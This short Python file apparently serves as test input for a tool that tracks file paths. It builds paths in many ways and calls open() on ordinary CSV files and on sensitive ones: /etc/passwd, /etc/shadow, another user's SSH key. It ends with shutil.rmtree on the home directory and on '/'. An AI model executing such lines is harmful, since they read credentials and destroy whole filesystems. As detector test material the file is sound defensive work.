import os
import shutil
from pathlib import Path

here = Path.cwd()
open(here / "a.csv")
open(str(here) + "/b.csv")
open(Path(__file__).resolve().parents[1] / "c.csv")
open(Path("x/y.txt").resolve().with_name("d.csv"))
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "e.csv"))
open(Path("./f/g").parts[0])
open(here.parents[2] / "h.csv")
open(here.parents[-1] / "etc" / "passwd")
open(here.anchor + "etc/shadow")
open(Path(here.parts[0], "etc/group"))
open(str(here)[0] + "etc/hosts")
open(os.fspath(Path("x").resolve())[0] + "etc/hosts")
open(Path.home().parent / "bob" / ".ssh" / "id")
for folder in (Path("x"), Path("x").home()):
    shutil.rmtree(folder)
shutil.rmtree("/")
